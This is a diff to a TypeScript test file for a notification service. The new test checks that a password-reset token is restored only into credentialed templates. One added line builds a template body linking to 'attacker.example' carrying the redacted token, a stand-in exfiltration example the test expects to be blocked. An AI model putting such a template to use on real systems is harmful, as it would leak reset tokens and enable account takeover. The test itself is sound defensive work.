@@ -8,7 +8,10 @@ import { createApiKey } from '../../src/modules/api-keys/api-keys.service';
 import { abandonIdleCarts } from '../../src/modules/carts/abandonment';
 import { contextReads } from '../../src/notifications/context';
 import { DEFAULT_TEMPLATES } from '../../src/notifications/defaults';
-import { unredact } from '../../src/notifications/redaction';
+import { outgoingMessage } from '../../src/notifications/outgoing';
+import { notificationRow } from '../../src/notifications/planner';
+import { INERT, REDACTED, unredact } from '../../src/notifications/redaction';
+import { resetCause } from '../../src/notifications/reset-token';
 import type { TemplateData } from '../../src/notifications/render';
 import { type Trigger, TRIGGERS } from '../../src/notifications/triggers';
 import { disableIfFailingTooLong } from '../../src/webhooks/endpoint-health';
@@ -78,10 +81,14 @@ const realData: Record<Trigger, () => Promise<TemplateData>> = {
   },
 };
 
-/** The variables whose value is a credential: those holding the mark the send puts it back into. */
+/**
+ * The variables whose value is a credential: those holding the mark the send puts it back into, or
+ * that mark made inert because the trigger did not list the variable (messages written with
+ * notificationRow: no fixture value here says either).
+ */
 const credentialsIn = (data: TemplateData) =>
   Object.entries(data)
-    .filter(([, value]) => typeof value === 'string' && unredact(value, 'REAL-TOKEN') !== value)
+    .filter(([, value]) => typeof value === 'string' && (unredact(value, 'REAL-TOKEN') !== value || value.includes(INERT)))
     .map(([name]) => name)
     .sort();
 
@@ -125,5 +132,23 @@ describe('templates whose messages carry a credential', () => {
       const res = await api(`/api/notifications/templates/${template.id}/reset`, { method: 'POST', key });
       expect(res.status, template.id).toBe(credentialed ? 403 : 200);
     }
+  });
+
+  it('are the only ones whose messages get a token put back when sent, whatever their cause or data says', async () => {
+    // An ordinary template, which notifications:write changes, written as if for a reset and a cart reminder.
+    const ordinary = DEFAULT_TEMPLATES.find((t) => t.id === 'tmpl_order_confirmation_email')!;
+    const row = notificationRow({
+      template: { ...ordinary, body: `https://attacker.example/?t=${REDACTED}` },
+      to: 'someone@example.test',
+      skip: null,
+      userId: null,
+      data: { recoveryId: 'crec_1' },
+      cause: resetCause('pwr_1'),
+      eventId: 'evt_1',
+    });
+    expect(await outgoingMessage(env, row)).toEqual({ subject: row.subject, body: row.body, bodyHtml: row.bodyHtml, secret: null });
+    const reset = DEFAULT_TEMPLATES.find((t) => t.id === 'tmpl_password_reset_email')!;
+    const sent = await outgoingMessage(env, notificationRow({ template: reset, to: 'someone@example.test', skip: null, userId: null, data: { token: REDACTED }, cause: resetCause('pwr_1'), eventId: null }));
+    expect(sent).toMatchObject({ secret: expect.any(String) });
   });
 });
